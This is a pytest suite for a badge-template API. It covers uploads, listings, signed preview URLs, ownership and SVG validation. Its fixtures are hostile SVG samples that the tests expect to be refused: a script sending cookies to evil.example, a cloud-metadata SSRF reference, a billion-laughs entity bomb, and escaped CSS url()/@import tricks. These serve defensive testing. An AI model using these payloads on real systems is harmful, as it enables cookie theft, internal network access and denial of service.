"""Badge templates: built-ins and uploads, checked in a render worker, previews by signed URL."""

from __future__ import annotations

import hashlib
import io
import uuid

import pytest
from PIL import Image
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from api.badge_templates.models import BadgeTemplate
from api.badge_templates.service import resolve_template
from api.errors import NotFoundError, ValidationError
from api.extensions import db
from api.render.tasks import TemplateSource
from tests.factories import UserFactory
from tests.support.accounts import other_headers

URL = "/api/v1/badge-templates"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"

# 90 x 55 mm, two fields (one without a sample value) and a QR code box.
BADGE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90mm" height="55mm" viewBox="0 0 90 55">
  <rect width="90" height="55" fill="#fff8e7"/>
  <rect width="90" height="10" fill="#2a9d8f"/>
  <text x="45" y="7" text-anchor="middle" font-size="5" fill="#ffffff">{{event}}</text>
  <text x="45" y="26" text-anchor="middle" font-size="8" font-weight="bold"
        data-max-width="80">{{name}}</text>
  <text x="45" y="36" text-anchor="middle" font-size="5">{{company}}</text>
  <rect x="38" y="39" width="14" height="14" fill="none" data-qr="email"/>
</svg>"""

NO_PLACEHOLDER_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90mm" height="55mm"
     viewBox="0 0 90 55">
  <rect width="90" height="55" fill="#eeeeee"/><text x="10" y="20">HELLO my name is</text>
</svg>"""

SCRIPT_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90mm" height="55mm" viewBox="0 0 90 55">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <text x="10" y="20">{{name}}</text>
</svg>"""

EXTERNAL_REFERENCE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="90mm" height="55mm" viewBox="0 0 90 55">
  <image x="0" y="0" width="90" height="55" xlink:href="http://169.254.169.254/latest/meta-data/"/>
  <text x="10" y="20">{{name}}</text>
</svg>"""

BILLION_LAUGHS_SVG = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" width="90mm" height="55mm">
  <text x="10" y="20">&lol9;{{name}}</text>
</svg>"""


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(buffer, format="PNG")
    return buffer.getvalue()


def upload(client, headers, content=BADGE_SVG, filename="badge.svg", **parts):
    # Encoded here, in memory: the test client spools a body over 500 KB to a temporary file that
    # it never closes, which the suite's warnings-as-errors would report.
    file = FileStorage(io.BytesIO(content), filename=filename, content_type="image/svg+xml")
    boundary, body = encode_multipart({"file": file, **parts})
    return client.post(
        URL, data=body, headers=headers, content_type=f'multipart/form-data; boundary="{boundary}"'
    )


def uploaded(client, headers, **kwargs):
    response = upload(client, headers, **kwargs)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def stored_count() -> int:
    return db.session.scalar(select(func.count()).select_from(BadgeTemplate)) or 0


def decoded_png(response) -> Image.Image:
    assert response.status_code == 200
    assert response.mimetype == "image/png"
    body = response.get_data()
    assert body.startswith(PNG_SIGNATURE)
    image = Image.open(io.BytesIO(body))
    image.load()
    return image


def pixels_at_150_dpi(millimetres: float) -> int:
    return round(millimetres / 25.4 * 150)


# Listing and reading


def test_the_list_starts_with_the_built_in_templates(client, auth_headers):
    response = client.get(URL, headers=auth_headers)

    assert response.status_code == 200
    body = response.get_json()
    assert [item["id"] for item in body["items"]] == ["classic", "landscape", "card", "photo"]
    assert (body["total"], body["page"], body["per_page"]) == (4, 1, 20)
    assert 'rel="first"' in response.headers["Link"]
    classic, _, card, photo = body["items"]
    assert classic == {
        "id": "classic",
        "name": "Classic A6 lanyard badge",
        "source": "built-in",
        "width_mm": 105.0,
        "height_mm": 148.0,
        "bleed_mm": 0.0,
        "fields": ["event", "name", "organization", "role"],
        "has_qr": True,
        "has_back": True,
        "preview_url": "http://localhost/api/v1/badge-templates/classic/preview",
        "created_at": None,
        "warnings": [],
    }
    assert (card["width_mm"], card["height_mm"]) == (85.6, 54.0)
    assert (photo["name"], photo["has_qr"]) == ("A6 lanyard badge with the attendee's photo", False)


def test_templates_need_a_token_except_built_in_previews(client):
    assert client.get(URL).status_code == 401
    assert client.get(f"{URL}/classic").status_code == 401
    assert upload(client, {}).status_code == 401
    assert client.delete(f"{URL}/classic").status_code == 401
    assert client.get(f"{URL}/classic/preview").status_code == 200


def test_a_built_in_template_is_read_by_its_id(client, auth_headers):
    response = client.get(f"{URL}/landscape", headers=auth_headers)

    assert response.status_code == 200
    assert response.get_json()["source"] == "built-in"
    assert (response.get_json()["width_mm"], response.get_json()["height_mm"]) == (101.6, 76.2)


def test_an_unknown_template_is_404(client, auth_headers):
    for template_id in ("fancy", str(uuid.uuid4()), "Classic"):
        for response in (
            client.get(f"{URL}/{template_id}", headers=auth_headers),
            client.get(f"{URL}/{template_id}/preview", headers=auth_headers),
            client.delete(f"{URL}/{template_id}", headers=auth_headers),
        ):
            assert response.status_code == 404, template_id
            assert response.get_json()["code"] == "template_not_found"


# Uploading


def test_an_uploaded_template_is_listed_read_previewed_and_deleted(client, auth_headers):
    response = upload(client, auth_headers)

    assert response.status_code == 201
    template = response.get_json()
    assert response.headers["Location"].endswith(f"{URL}/{template['id']}")
    assert uuid.UUID(template["id"])
    assert template["name"] == "badge"
    assert template["source"] == "uploaded"
    assert (template["width_mm"], template["height_mm"]) == (90.0, 55.0)
    assert template["fields"] == ["event", "name", "company"]
    assert template["has_qr"] is True
    assert template["created_at"] is not None
    assert template["preview_url"].startswith(f"http://localhost{URL}/{template['id']}/preview?sig=")
    stored = db.session.get(BadgeTemplate, uuid.UUID(template["id"]))
    assert stored.svg == BADGE_SVG
    assert stored.sha256 == hashlib.sha256(BADGE_SVG).hexdigest()

    listing = client.get(URL, headers=auth_headers).get_json()
    ids = [item["id"] for item in listing["items"]]
    assert ids == ["classic", "landscape", "card", "photo", template["id"]]
    assert listing["total"] == 5
    assert client.get(f"{URL}/{template['id']}", headers=auth_headers).get_json() == template

    image = decoded_png(client.get(template["preview_url"]))
    assert image.size == (pixels_at_150_dpi(90), pixels_at_150_dpi(55))

    assert client.delete(f"{URL}/{template['id']}", headers=auth_headers).status_code == 204
    assert client.get(f"{URL}/{template['id']}", headers=auth_headers).status_code == 404
    assert client.get(template["preview_url"]).status_code == 404
    assert stored_count() == 0


def test_uploads_come_after_the_built_ins_newest_first_across_pages(client, auth_headers):
    first = uploaded(client, auth_headers, name="First")
    second = uploaded(client, auth_headers, name="Second")

    pages = [client.get(f"{URL}?per_page=2&page={number}", headers=auth_headers) for number in (1, 2, 3)]

    assert [[item["id"] for item in page.get_json()["items"]] for page in pages] == [
        ["classic", "landscape"],
        ["card", "photo"],
        [second["id"], first["id"]],
    ]
    assert all(page.get_json()["total"] == 6 for page in pages)
    assert 'rel="next"' in pages[1].headers["Link"]
    assert 'rel="next"' not in pages[2].headers["Link"]


def test_the_name_comes_from_the_name_part_or_else_the_file_name(client, auth_headers):
    named = uploaded(client, auth_headers, name="  Speaker badge  ")
    blank = uploaded(client, auth_headers, name="", filename="designs/Summit 2026.v2.svg")
    nameless = uploaded(client, auth_headers, filename=".svg")

    assert named["name"] == "Speaker badge"
    assert blank["name"] == "Summit 2026.v2"
    assert nameless["name"] == "Untitled"


def test_the_upload_form_is_checked_before_the_file(client, auth_headers):
    too_long = upload(client, auth_headers, name="x" * 201)
    read_only = upload(client, auth_headers, owner_id=str(uuid.uuid4()))
    unknown = upload(client, auth_headers, colour="red", background=FileStorage(io.BytesIO(b"x"), "bg.png"))
    two_files = client.post(
        URL,
        data={"file": [(io.BytesIO(BADGE_SVG), "a.svg"), (io.BytesIO(BADGE_SVG), "b.svg")]},
        headers=auth_headers,
        content_type="multipart/form-data",
    )
    as_json = client.post(URL, json={"file": BADGE_SVG.decode()}, headers=auth_headers)

    assert too_long.status_code == 422
    assert set(too_long.get_json()["errors"]) == {"name"}
    assert read_only.status_code == unknown.status_code == 422
    assert read_only.get_json()["errors"] == {"owner_id": ["Read-only field: it cannot be set by a client."]}
    assert set(unknown.get_json()["errors"]) == {"colour", "background"}
    assert two_files.status_code == 422
    assert two_files.get_json()["errors"]["file"] == ["Send one file."]
    assert as_json.status_code == 415
    assert stored_count() == 0


def big_svg() -> bytes:
    padding = b"<!--" + b"x" * (2 * 1024 * 1024) + b"-->"
    return BADGE_SVG.replace(b"</svg>", padding + b"</svg>")


@pytest.mark.parametrize(
    ("content", "status", "code", "message"),
    [
        pytest.param(b"", 422, "validation_failed", "The file is empty.", id="empty"),
        pytest.param(
            b"Name,Email\nAda,ada@example.org\n", 422, "invalid_template", "not well-formed XML", id="not-xml"
        ),
        pytest.param(
            b"<html><body><p>{{name}}</p></body></html>",
            422,
            "invalid_template",
            "root element must be <svg>",
            id="xml-not-svg",
        ),
        pytest.param(SCRIPT_SVG, 422, "invalid_template", "<script> elements are not allowed", id="script"),
        pytest.param(
            EXTERNAL_REFERENCE_SVG,
            422,
            "invalid_template",
            "External reference 'http://169.254",
            id="external-ref",
        ),
        pytest.param(
            BILLION_LAUGHS_SVG,
            422,
            "invalid_template",
            "DOCTYPE declarations and entities are not allowed",
            id="billion-laughs",
        ),
        pytest.param(NO_PLACEHOLDER_SVG, 422, "no_placeholders", "needs at least one", id="no-placeholder"),
        pytest.param(
            png_bytes(), 422, "invalid_template", "This file is a PNG image, not an SVG", id="png-as-svg"
        ),
        pytest.param(big_svg(), 413, "payload_too_large", None, id="oversized"),
    ],
)
def test_a_bad_upload_is_refused_and_nothing_is_stored(client, auth_headers, content, status, code, message):
    response = upload(client, auth_headers, content=content, filename="badge.svg")

    assert response.status_code == status
    problem = response.get_json()
    assert problem["code"] == code
    if message is None:
        assert "2097152 bytes" in problem["detail"]
    else:
        assert any(message.lower() in text.lower() for text in problem["errors"]["file"]), problem
    assert stored_count() == 0


def test_an_upload_without_a_file_part_names_the_file_field(client, auth_headers):
    missing = client.post(URL, data={"name": "x"}, headers=auth_headers, content_type="multipart/form-data")
    as_text = client.post(
        URL, data={"file": BADGE_SVG.decode()}, headers=auth_headers, content_type="multipart/form-data"
    )

    assert missing.status_code == as_text.status_code == 422
    assert missing.get_json()["errors"]["file"] == [
        "Missing: send the SVG template as a file part named `file`."
    ]
    assert as_text.get_json()["errors"]["file"] == [
        "Must be a file part (with a file name), not a text field."
    ]
    assert stored_count() == 0


def test_the_number_of_uploads_per_user_is_capped(app, client, auth_headers, monkeypatch):
    monkeypatch.setitem(app.config, "BADGE_TEMPLATES_MAX_PER_USER", 1)
    uploaded(client, auth_headers)

    response = upload(client, auth_headers)

    assert response.status_code == 422
    assert response.get_json()["code"] == "too_many_templates"
    assert "BADGE_TEMPLATES_MAX_PER_USER" in response.get_json()["errors"]["file"][0]
    assert stored_count() == 1
    # The cap is per user.
    assert upload(client, other_headers(client)).status_code == 201


# Ownership


def test_another_users_template_is_404_for_read_preview_and_delete(client, auth_headers):
    template = uploaded(client, auth_headers)
    stranger = other_headers(client)
    url = f"{URL}/{template['id']}"

    for response in (
        client.get(url, headers=stranger),
        client.get(f"{url}/preview", headers=stranger),
        client.delete(url, headers=stranger),
    ):
        assert response.status_code == 404
        assert response.get_json()["code"] == "template_not_found"
    assert [item["id"] for item in client.get(URL, headers=stranger).get_json()["items"]] == [
        "classic",
        "landscape",
        "card",
        "photo",
    ]
    assert client.get(url, headers=auth_headers).status_code == 200


def test_built_in_templates_cannot_be_deleted(client, auth_headers):
    response = client.delete(f"{URL}/classic", headers=auth_headers)

    assert response.status_code == 403
    assert response.get_json()["code"] == "built_in_template"


# Previews


def test_a_built_in_preview_is_a_png_at_150_dpi(client):
    image = decoded_png(client.get(f"{URL}/classic/preview"))

    assert image.size == (pixels_at_150_dpi(105), pixels_at_150_dpi(148))
    # Not blank: the header band is the template's dark blue, the rest mostly white.
    assert image.convert("RGB").getpixel((5, 5)) == (0x1D, 0x35, 0x57)


def test_a_preview_has_an_etag_and_answers_if_none_match_with_304(client):
    first = client.get(f"{URL}/card/preview")
    etag = first.headers["ETag"]

    again = client.get(f"{URL}/card/preview", headers={"If-None-Match": etag})
    among_others = client.get(f"{URL}/card/preview", headers={"If-None-Match": f'"stale", {etag}'})
    stale = client.get(f"{URL}/card/preview", headers={"If-None-Match": '"stale"'})

    assert first.headers["Cache-Control"] == "private, max-age=86400"
    assert again.status_code == among_others.status_code == 304
    assert again.get_data() == b""
    assert again.headers["ETag"] == etag
    assert again.headers["Cache-Control"] == "private, max-age=86400"
    assert stale.status_code == 200
    assert stale.get_data().startswith(PNG_SIGNATURE)
    # Each template has its own.
    assert client.get(f"{URL}/classic/preview").headers["ETag"] != etag


def test_an_uploaded_preview_works_by_signed_url_without_a_token(client, auth_headers):
    template = uploaded(client, auth_headers)
    url = template["preview_url"]
    bare = url.split("?")[0]
    signature = url.split("sig=")[1]
    tampered = signature[:-2] + ("AA" if not signature.endswith("AA") else "BB")

    signed = client.get(url)
    by_owner = client.get(bare, headers=auth_headers)

    assert decoded_png(signed).size == decoded_png(by_owner).size
    assert signed.headers["ETag"] == by_owner.headers["ETag"]
    assert hashlib.sha256(BADGE_SVG).hexdigest() in signed.headers["ETag"]
    assert client.get(url, headers={"If-None-Match": signed.headers["ETag"]}).status_code == 304
    for refused in (
        client.get(bare),
        client.get(f"{bare}?sig={tampered}"),
        client.get(f"{bare}?sig="),
        client.get(f"{bare}?sig=%C3%A9t%C3%A9"),
        client.get(f"{bare}?sig={tampered}", headers=other_headers(client)),
    ):
        assert refused.status_code == 404
        assert refused.get_json()["code"] == "template_not_found"
    # A wrong signature does not stop the owner's token.
    assert client.get(f"{bare}?sig={tampered}", headers=auth_headers).status_code == 200


def test_a_signature_is_bound_to_its_template(client, auth_headers):
    first = uploaded(client, auth_headers)
    second = uploaded(client, auth_headers, content=BADGE_SVG.replace(b"#fff8e7", b"#e7f0ff"))

    borrowed = f"{URL}/{second['id']}/preview?sig={first['preview_url'].split('sig=')[1]}"

    assert client.get(borrowed).status_code == 404
    assert client.get(second["preview_url"]).status_code == 200


def test_a_large_template_previews_at_a_lower_resolution(client, auth_headers):
    poster = BADGE_SVG.replace(b'width="90mm" height="55mm"', b'width="400mm" height="300mm"')
    template = uploaded(client, auth_headers, content=poster)

    image = decoded_png(client.get(template["preview_url"]))

    assert image.size == (1200, 900)


# For the badge jobs and badge previews


def test_resolve_template_finds_built_ins_and_the_actors_uploads(client, auth_headers, user):
    template = uploaded(client, auth_headers, name="Mine")

    built_in = resolve_template(db.session(), actor=user, ref="card")
    own = resolve_template(db.session(), actor=user, ref=template["id"])

    assert (built_in.ref, built_in.source) == ("card", TemplateSource(built_in="card"))
    assert built_in.fields == ("event", "role", "name", "organization")
    assert (own.ref, own.svg, own.name) == (template["id"], BADGE_SVG, "Mine")
    assert own.source.sha256 == hashlib.sha256(BADGE_SVG).hexdigest()
    assert own.fields == ("event", "name", "company")


def test_resolve_template_refuses_other_users_and_unknown_templates(client, auth_headers):
    template = uploaded(client, auth_headers)
    other = UserFactory(verified=True)

    with pytest.raises(NotFoundError) as not_found:
        resolve_template(db.session(), actor=other, ref=template["id"])
    with pytest.raises(NotFoundError):
        resolve_template(db.session(), actor=other, ref=str(uuid.uuid4()))
    with pytest.raises(ValidationError) as unknown:
        resolve_template(db.session(), actor=other, ref="fancy")

    assert not_found.value.code == "template_not_found"
    assert unknown.value.errors == {
        "options.template": [
            "Unknown template 'fancy'; built-in ones are classic, landscape, card,"
            " photo,"
            " or use an uploaded template's id."
        ]
    }


# Constructs that could make a renderer reach outside the document (issue 11, item 7)


def hostile_construct(body: str, before: bytes = b"") -> bytes:
    return before + BADGE_SVG.replace(b"</svg>", body.encode() + b"</svg>")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(
            hostile_construct("", b'<?xml-stylesheet type="text/css" href="http://127.0.0.1:9/a.css"?>\n'),
            "processing instructions such as <?xml-stylesheet?> are not allowed",
            id="xml-stylesheet",
        ),
        pytest.param(
            hostile_construct('<rect width="1" height="1" fill="URL(http://127.0.0.1:9/p.svg#p)"/>'),
            "url(http://127.0.0.1:9/p.svg#p) in the fill attribute of <rect>",
            id="fill-URL",
        ),
        pytest.param(
            hostile_construct("<style>rect { fill: u\\72l(http://127.0.0.1:9/p) }</style>"),
            "url(http://127.0.0.1:9/p) in <style>: only url(#id) references",
            id="escaped-url-in-style",
        ),
        pytest.param(
            hostile_construct("<style>@font-face { font-family: X; src: local(Arial) }</style>"),
            "@font-face in <style> is not allowed",
            id="font-face",
        ),
        pytest.param(
            hostile_construct('<style>@\\69mport "http://127.0.0.1:9/a.css";</style>'),
            "@import in <style> is not allowed",
            id="escaped-import",
        ),
    ],
)
def test_a_template_that_could_reach_outside_itself_is_refused_by_name(
    client, auth_headers, content, message
):
    response = upload(client, auth_headers, content=content)

    assert response.status_code == 422
    problem = response.get_json()
    assert problem["code"] == "invalid_template"
    assert any(message.lower() in text.lower() for text in problem["errors"]["file"]), problem
    assert stored_count() == 0


def test_fragment_references_and_a_style_with_classes_are_still_accepted(client, auth_headers):
    content = b'<?xml version="1.0" encoding="UTF-8"?>\n' + hostile_construct(
        "<style>.band { fill: url(#g) }</style>"
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient>'
        '<clipPath id="c"><rect width="90" height="55"/></clipPath></defs>'
        '<rect class="band" width="90" height="4" clip-path="url(#c)" style="stroke:URL(#g)"/>'
    )

    body = uploaded(client, auth_headers, content=content)

    assert body["fields"] == ["event", "name", "company"]


def test_static_text_past_the_badges_edges_is_reported_at_upload_and_drawn_as_it_is(client, auth_headers):
    svg = BADGE_SVG.replace(
        b"</svg>",
        b'<text x="80" y="50" font-size="5">FOSSASIA Summit 2026 Main Hall</text>'
        b'<text x="45" y="20" font-size="5" text-anchor="middle">Fits</text></svg>',
    )

    response = upload(client, auth_headers, content=svg)

    assert response.status_code == 201, response.get_json()
    warnings = response.get_json()["warnings"]
    assert len(warnings) == 1
    assert "'FOSSASIA Summit 2026 Main Hall'" in warnings[0]
    assert "right edge by" in warnings[0]
    listed = client.get(f"/api/v1/badge-templates/{response.get_json()['id']}", headers=auth_headers)
    assert listed.get_json()["warnings"] == []  # reported once, at upload; the SVG is kept as sent


def test_fonts_that_are_not_installed_and_static_text_they_lack_are_reported_at_upload(client, auth_headers):
    svg = BADGE_SVG.replace(
        b"</svg>",
        '<text x="45" y="20" font-size="4" font-family="DejaVu Sans" text-anchor="middle">'
        "Welcome 👋 வணக்கம்</text>"
        # A family nothing installed provides or aliases (see test_fallback_fonts).
        '<text x="45" y="30" font-size="4" font-family="Segoe UI" text-anchor="middle">'
        "Hall A</text></svg>".encode(),
    )

    response = upload(client, auth_headers, content=svg)

    assert response.status_code == 201, response.get_json()
    assert response.get_json()["warnings"] == [
        "The font 'Segoe UI' is not installed: text set in it is drawn with Noto Sans.",
        "The text 'Welcome 👋 வணக்கம்' takes 👋 from Noto Color Emoji and வணக்கம் from Noto Sans "
        "Tamil: DejaVu Sans lacks them.",
    ]


def test_a_template_that_fits_has_no_warnings(client, auth_headers):
    assert uploaded(client, auth_headers)["warnings"] == []
    for template_id in ("classic", "landscape", "card", "photo"):
        answer = client.get(f"/api/v1/badge-templates/{template_id}", headers=auth_headers).get_json()
        assert answer["warnings"] == []
